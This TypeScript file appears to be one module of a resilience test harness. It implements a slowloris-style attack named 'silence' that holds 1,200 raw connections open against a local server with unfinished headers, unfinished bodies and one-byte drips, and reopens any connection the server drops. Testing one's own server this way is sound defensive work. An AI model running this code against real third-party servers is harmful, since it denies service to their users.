import { type Attack, pause } from './attack.ts';
import { head, raw } from './raw.ts';

const CONNECTIONS = 1_200;

/** S3: connections that say nothing, or say it letter by letter, held for as long as they are let. */
export const silence: Attack = async ({ port, until }) => {
  let opened = 0;
  let ended = 0;
  const sockets = new Set<ReturnType<typeof raw>>();
  const open = (at: number) => {
    const socket = raw(port);
    sockets.add(socket);
    socket.once('connect', () => {
      opened++;
      // A third says nothing, a third never ends its head, a third never ends its body.
      if (at % 3 === 1) socket.write('GET / HTTP/1.1\r\nHost: localhost\r\nX-Slow: ');
      if (at % 3 === 2)
        socket.write(head('POST', '/api/rooms', { 'Content-Type': 'application/json', 'Content-Length': 100_000 }));
    });
    socket.once('close', () => {
      ended++;
      sockets.delete(socket);
    });
    socket.resume();
  };
  for (let at = 0; at < CONNECTIONS && Date.now() < until; at++) {
    open(at);
    if (at % 25 === 24) await pause(10);
  }
  const drip = setInterval(() => {
    for (const socket of sockets) if (socket.bytesWritten > 0) socket.write('x');
  }, 1_000);
  // Whoever is hung up on comes back.
  let more = 0;
  while (Date.now() < until) {
    while (sockets.size < CONNECTIONS && more < 3 * CONNECTIONS) {
      open(CONNECTIONS + more++);
      if (more % 25 === 24) break;
    }
    await pause(50);
  }
  clearInterval(drip);
  for (const socket of sockets) socket.destroy();
  return { opened, 'hung up on': ended };
};
